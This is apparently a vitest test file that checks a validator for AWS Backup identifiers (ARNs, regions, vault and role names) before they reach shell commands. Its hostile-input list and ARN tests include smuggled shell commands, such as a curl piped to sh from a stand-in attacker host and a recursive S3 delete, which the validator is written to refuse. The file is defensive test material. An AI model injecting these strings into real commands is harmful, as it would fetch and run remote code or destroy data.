// The formats of the values that may reach a command: real values pass, near misses and hostile text do not.
import { describe, expect, it } from 'vitest';
import { arnAccountAndRegion, checkValue, hasControlCharacter, isValue, roleOfArn, vaultNameOfArn, VALUE_KINDS, type ValueKind } from './formats';

const VALID: Record<ValueKind, string[]> = {
  accountId: ['210987654321', '111122223333'],
  region: ['us-east-1', 'eu-central-2', 'ap-southeast-7', 'us-gov-west-1', 'cn-north-1', 'cn-northwest-1', 'il-central-1', 'eusc-de-east-1', 'us-isob-east-1'],
  partition: ['aws', 'aws-cn', 'aws-us-gov'],
  vaultName: ['central-backup-vault', 'Default', 'aws_backup_01', 'ab'],
  vaultArn: ['arn:aws:backup:eu-west-1:345678901234:backup-vault:central-backup-vault', 'arn:aws-cn:backup:cn-north-1:345678901234:backup-vault:Default'],
  kmsKeyArn: ['arn:aws:kms:eu-west-1:210987654321:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58', 'arn:aws-us-gov:kms:us-gov-west-1:210987654321:key/mrk-1234abcd12ab34cd56ef1234567890ab'],
  kmsKeyId: ['0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58', 'mrk-1234abcd12ab34cd56ef1234567890ab'],
  kmsKey: ['0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58', 'arn:aws:kms:eu-west-1:210987654321:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58'],
  kmsAliasName: ['alias/backup-key', 'alias/aws/backup'],
  kmsAliasArn: ['arn:aws:kms:eu-west-1:210987654321:alias/backup-key'],
  kmsKeyRef: ['alias/backup-key', 'arn:aws:kms:eu-west-1:210987654321:alias/aws/backup', '0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58'],
  roleArn: [
    'arn:aws:iam::210987654321:role/service-role/AWSBackupDefaultServiceRole',
    'arn:aws:iam::210987654321:role/BackupCopyRole',
    'arn:aws:iam::345678901234:role/aws-service-role/backup.amazonaws.com/AWSServiceRoleForBackup',
  ],
  roleName: ['AWSBackupDefaultServiceRole', 'copy+role=1,a.b@c_d-e'],
  iamPath: ['/', '/service-role/', '/aws-service-role/backup.amazonaws.com/'],
  managedPolicyArn: ['arn:aws:iam::aws:policy/service-role/AWSBackupServiceRolePolicyForBackup', 'arn:aws-cn:iam::aws:policy/AWSBackupServiceRolePolicyForS3Backup'],
  recoveryPointArn: [
    'arn:aws:backup:us-east-1:210987654321:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a',
    'arn:aws:backup:us-east-1:210987654321:recovery-point:continuous:my-bucket-5ec207d0',
    'arn:aws:ec2:us-east-1::snapshot/snap-0a1b2c3d4e5f60718',
    'arn:aws:ec2:us-east-1::image/ami-0a1b2c3d4e5f60718',
    'arn:aws:rds:us-west-2:210987654321:snapshot:awsbackup:job-1a2b3c4d',
    'arn:aws:rds:us-west-2:210987654321:cluster-snapshot:awsbackup:job-1a2b3c4d-5e6f',
    'arn:aws:dynamodb:us-east-1:210987654321:table/Orders/backup/01489173575360-b308cd7d',
    'arn:aws:fsx:eu-west-1:210987654321:backup/backup-0123456789abcdef0',
    'arn:aws:redshift:us-east-1:210987654321:snapshot:prod-cluster/awsbackup-job-1',
  ],
  backupRecoveryPointArn: ['arn:aws:backup:us-east-1:210987654321:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a'],
  arn: ['arn:aws:ec2:us-east-1:210987654321:volume/vol-0f1e2d3c4b5a69788', 'arn:aws:s3:::my-bucket', 'arn:aws:rds:us-west-2:210987654321:db:orders-db'],
  copyJobId: ['8A3C5F2E-7B41-4D0B-9A1E-2C3D4E5F6A7B', 'C1'],
  policyId: ['p-a1b2c3d4', 'p-FullAWSAccess', 'p-0123456789abcdef'],
  organizationId: ['o-7h2kd9x3qa', 'o-a1b2c3d4e5'],
  ouId: ['ou-ab12-11111111'],
  rootId: ['r-ab12'],
  orgPath: ['o-a1b2c3d4e5/r-ab12/ou-ab12-11111111/', 'o-a1b2c3d4e5/*', 'o-a1b2c3d4e5/r-ab12/ou-ab12-11111111/*'],
  tagKey: ['CostCenter', 'cost center', 'app:tier/env=prod+1@x', '部門'],
  days: ['1', '35', '36500'],
  resourceType: ['EBS', 'Aurora', 'SAP HANA on Amazon EC2', 'Storage Gateway'],
};

const HOSTILE = [
  "central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#",
  'central-vault\naws s3 rm s3://bucket --recursive',
  '$(id)',
  '`id`',
  "a'b",
  'x|y',
  'x&&y',
  'x>y',
  'vault\u2028name',
  'vault\u202ename',
  'vault\u0000',
  'vault\u007f',
  'vault\u0085',
];

describe('value formats', () => {
  it('has examples for every kind', () => {
    expect(Object.keys(VALID).sort()).toEqual([...VALUE_KINDS].sort());
  });

  for (const kind of VALUE_KINDS) {
    it(`accepts real ${kind} values`, () => {
      for (const v of VALID[kind]) expect(checkValue(kind, v), v).toEqual({ ok: true });
    });

    it(`refuses hostile ${kind} values, alone and after a real value`, () => {
      for (const h of HOSTILE) {
        expect(isValue(kind, h), h).toBe(false);
        for (const v of VALID[kind]) expect(isValue(kind, `${v}${h}`), `${v}${h}`).toBe(false);
      }
    });
  }

  it('says why a value was refused', () => {
    expect(checkValue('vaultName', '')).toEqual({ ok: false, reason: 'empty' });
    expect(checkValue('vaultName', 'central\nvault')).toEqual({ ok: false, reason: 'control-character' });
    expect(checkValue('vaultName', 'central;vault')).toEqual({ ok: false, reason: 'shell-character' });
    expect(checkValue('vaultName', 'c')).toEqual({ ok: false, reason: 'format' });
    expect(checkValue('arn', `arn:aws:s3:::${'a'.repeat(3000)}`)).toEqual({ ok: false, reason: 'too-long' });
  });

  it('refuses near misses people paste', () => {
    expect(isValue('accountId', '2109-8765-4321')).toBe(false);
    expect(isValue('accountId', '21098765432')).toBe(false);
    expect(isValue('region', 'US-EAST-1')).toBe(false);
    expect(isValue('region', 'us-east')).toBe(false);
    expect(isValue('region', 'eu-west-1 ')).toBe(false);
    expect(isValue('vaultName', 'a'.repeat(51))).toBe(false);
    expect(isValue('kmsKeyArn', 'arn:aws:kms:eu-west-1:SourceAccountID:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58')).toBe(false);
    expect(isValue('kmsKeyArn', 'arn:aws:kms:eu-west-1:210987654321:key/<key-id>')).toBe(false);
    expect(isValue('kmsKeyArn', 'arn:aws:kms:eu-west-1:210987654321:alias/backup')).toBe(false);
    expect(isValue('kmsKey', 'alias/backup')).toBe(false);
    expect(isValue('roleArn', 'arn:aws:iam:::210987654321:role/x')).toBe(false);
    expect(isValue('roleArn', 'arn:aws:iam::210987654321:role/$(id)/x')).toBe(false);
    expect(isValue('roleArn', 'arn:aws:iam::210987654321:user/x')).toBe(false);
    expect(isValue('vaultArn', 'arn:aws:backup:eu-west-1:345678901234:backup-vault:x')).toBe(false);
    expect(isValue('vaultArn', 'arn:aws:kms:eu-west-1:345678901234:backup-vault:central')).toBe(false);
    expect(isValue('vaultArn', 'arn:aws-eu:backup:eu-west-1:345678901234:backup-vault:central')).toBe(false);
    expect(isValue('recoveryPointArn', 'arn:aws:ec2:us-east-1::snapshot/snap-XYZ')).toBe(false);
    expect(isValue('backupRecoveryPointArn', 'arn:aws:ec2:us-east-1::snapshot/snap-0a1b2c3d4e5f60718')).toBe(false);
    expect(isValue('policyId', 'p-ABC12345')).toBe(false);
    expect(isValue('policyId', 'p-1234567')).toBe(false);
    expect(isValue('organizationId', 'o-EXAMPLE')).toBe(false);
    expect(isValue('tagKey', 'aws:createdBy')).toBe(false);
    expect(isValue('days', '0')).toBe(false);
    expect(isValue('iamPath', 'service-role/')).toBe(false);
    // Spaces only where AWS allows them (tag keys, resource type names); quoting keeps them one word.
    for (const kind of ['vaultName', 'region', 'kmsKeyArn', 'roleName', 'policyId', 'orgPath'] as const) expect(isValue(kind, 'a b'), kind).toBe(false);
  });

  it('knows control characters: C0, DEL, C1, line separators, bidi and invisible ones', () => {
    for (const c of ['\u0000', '\t', '\n', '\r', '\u001b', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029', '\u202e', '\u2066', '\u200b', '\ufeff', '\u061c']) {
      expect(hasControlCharacter(`a${c}b`), JSON.stringify(c)).toBe(true);
    }
    expect(hasControlCharacter('plain text, “quotes” and 中文')).toBe(false);
  });

  it('takes names and parts out of valid ARNs only', () => {
    expect(vaultNameOfArn('arn:aws:backup:eu-west-1:345678901234:backup-vault:central-backup-vault')).toBe('central-backup-vault');
    expect(vaultNameOfArn('arn:aws:backup:eu-west-1:345678901234:backup-vault:central;rm')).toBeUndefined();
    expect(roleOfArn('arn:aws:iam::210987654321:role/service-role/AWSBackupDefaultServiceRole')).toEqual({
      partition: 'aws',
      account: '210987654321',
      path: '/service-role/',
      name: 'AWSBackupDefaultServiceRole',
    });
    expect(roleOfArn("arn:aws:iam::210987654321:role/;curl$IFS'x'|sh;/Name")).toBeUndefined();
    expect(arnAccountAndRegion('arn:aws:backup:eu-west-1:345678901234:backup-vault:x;y')).toEqual({ account: '345678901234', region: 'eu-west-1', partition: 'aws' });
    expect(arnAccountAndRegion('arn:aws:backup:eu-west-1;id:345678901234:backup-vault:x')).toEqual({ account: '345678901234', partition: 'aws' });
  });
});
